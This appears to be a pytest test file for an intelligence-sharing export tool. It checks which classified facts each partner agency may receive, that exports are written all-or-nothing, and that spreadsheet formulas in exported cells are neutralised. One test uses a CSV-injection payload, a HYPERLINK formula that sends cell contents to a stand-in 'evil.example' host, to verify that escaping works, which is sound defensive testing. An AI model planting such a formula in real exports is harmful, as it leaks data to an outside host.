"""What an export for a partner carries (the policy's ``may_disseminate``, one rule),
cells that cannot run as formulas, and an export file that is all or nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cupula.cli.main import app
from cupula.export import writers

runner = CliRunner()
# who wrote what, under which marking, about entity "p1" (one value each)
FACTS = [
    ("US-DEA", "us-dea", "SECRET H2 A2", "DEA's own H2"),
    ("CO-DIJIN", "co-h2", "CONFIDENTIAL REL TO USA H2 B2", "DIJIN H2 for the US"),
    ("CO-DIJIN", "co-case", "CONFIDENTIAL REL TO USA H0 CASE op-1", "DIJIN case op-1"),
    ("CO-DIJIN", "co-usa", "CONFIDENTIAL REL TO USA H1 B2", "DIJIN for the US"),
    ("CO-DIJIN", "co-dea", "RESTRICTED REL TO US-DEA H0", "DIJIN for the DEA"),
    ("CO-DIJIN", "co-col", "CONFIDENTIAL REL TO COL H0", "DIJIN for Colombia"),
    ("ES-SEPBLAC", "es", "RESTRICTED H0", "SEPBLAC's own"),
]


def cupula(db: str, *args: str, purpose: str | None = "tests") -> tuple[int, str]:
    head = ["--db", db] + (["--purpose", purpose] if purpose else [])
    result = runner.invoke(app, [*head, *args])
    return result.exit_code, result.output


@pytest.fixture
def db(tmp_path: Path) -> str:
    db = str(tmp_path / "s.db")
    for agency, country in (("CO-DIJIN", "COL"), ("US-DEA", "USA"), ("ES-SEPBLAC", "ESP")):
        code, out = cupula(
            db, "admin", "agency", "add", agency, "--country", country, "--name", agency
        )
        assert code == 0, out
    for agency, dataset, marking, value in FACTS:
        path = tmp_path / f"{dataset}.jsonl"
        entity = {"id": "p1", "schema": "Person", "properties": {"name": [value]}}
        path.write_text(json.dumps(entity) + "\n")
        code, out = cupula(
            db, "ingest", str(path), "--dataset", dataset, "--agency", agency, "--marking", marking
        )
        assert code == 0, out
    return db


def names(csv_text: str) -> set[str]:
    lines = [line for line in csv_text.splitlines() if not line.startswith("exported ")]
    rows = csv.DictReader(io.StringIO("\n".join(lines)))
    return {r["value"] for r in rows if r["prop"] == "name"}


def test_a_partner_gets_its_own_facts_and_what_rel_to_allows_never_h2_nor_cases(db: str) -> None:
    code, out = cupula(db, "export", "--format", "statements", "--for", "US-DEA")
    assert code == 0, out
    assert names(out) == {"DEA's own H2", "DIJIN for the US", "DIJIN for the DEA"}
    code, out = cupula(db, "export", "--format", "statements", "--for", "es-sepblac")
    assert names(out) == {"SEPBLAC's own"}


def test_the_ftm_and_graph_exports_apply_the_same_rule(db: str) -> None:
    code, out = cupula(db, "export", "--format", "ftm", "--for", "US-DEA")
    assert code == 0, out
    (entity,) = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    assert set(entity["properties"]["name"]) == {
        "DEA's own H2",
        "DIJIN for the US",
        "DIJIN for the DEA",
    }


def test_a_name_that_is_a_formula_is_exported_as_text(db: str, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "attack.jsonl"
    entity = {"id": "x1", "schema": "Person", "properties": {"name": [attack, "-5", "@SUM(1)"]}}
    path.write_text(json.dumps(entity) + "\n")
    code, out = cupula(
        db, "ingest", str(path), "--dataset", "es", "--agency", "ES-SEPBLAC",
        "--marking", "RESTRICTED H0",
    )  # fmt: skip
    assert code == 0, out
    target = tmp_path / "out.csv"
    code, out = cupula(db, "export", "--format", "statements", "-o", str(target))
    assert code == 0, out
    exported = names(target.read_text("utf-8"))
    assert {"'" + attack, "-5", "'@SUM(1)"} <= exported
    assert attack not in exported
    # no raw cell of the file starts a formula
    for row in csv.reader(io.StringIO(target.read_text("utf-8"))):
        assert not any(cell.startswith(("=", "@", "+")) for cell in row)


def test_a_refused_export_leaves_no_file_and_keeps_an_earlier_one(db: str, tmp_path: Path) -> None:
    new = tmp_path / "new.gexf"
    code, out = cupula(db, "export", "--format", "gexf", "-o", str(new), purpose=None)
    assert code == 2 and "purpose" in out
    assert not new.exists()
    earlier = tmp_path / "earlier.gexf"
    earlier.write_text("an earlier export\n")
    code, out = cupula(db, "export", "--format", "gexf", "-o", str(earlier), purpose=None)
    assert code == 2
    assert earlier.read_text() == "an earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == []


def test_an_export_failing_half_way_leaves_no_partial_file(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def half_then_fail(selection: writers.Selection, out: io.TextIOBase) -> int:
        out.write("id,entity_id\n")
        raise RuntimeError("disk gone")

    monkeypatch.setitem(writers.EXPORT_FORMATS, "statements", half_then_fail)
    target = tmp_path / "out.csv"
    target.write_text("an earlier export\n")
    code, _ = cupula(db, "export", "--format", "statements", "-o", str(target))
    assert code != 0
    assert target.read_text() == "an earlier export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    monkeypatch.undo()
    code, _ = cupula(db, "export", "--format", "statements", "-o", str(target))
    assert code == 0 and "DEA's own H2" in names(target.read_text("utf-8"))


def test_an_export_to_a_device_or_a_missing_folder(db: str, tmp_path: Path) -> None:
    code, out = cupula(db, "export", "--format", "ftm", "-o", str(tmp_path / "no" / "x.json"))
    assert code == 2 and "there is no folder" in " ".join(out.split())
    assert not (tmp_path / "no").exists()
    code, out = cupula(db, "export", "--format", "ftm", "-o", str(tmp_path))
    assert code == 2 and "is a folder" in " ".join(out.split())
    pipe = tmp_path / "pipe"  # like /dev/stdout: written to, never replaced by a file
    os.mkfifo(pipe)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text()))
    reader.start()
    code, out = cupula(db, "export", "--format", "ftm", "-o", str(pipe))
    reader.join(timeout=30)
    assert code == 0, out
    assert pipe.is_fifo() and '"p1"' in received[0]
    real = tmp_path / "real.json"
    real.write_text("earlier\n")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    code, out = cupula(db, "export", "--format", "ftm", "-o", str(link))
    assert code == 0, out
    assert link.is_symlink() and '"p1"' in real.read_text()
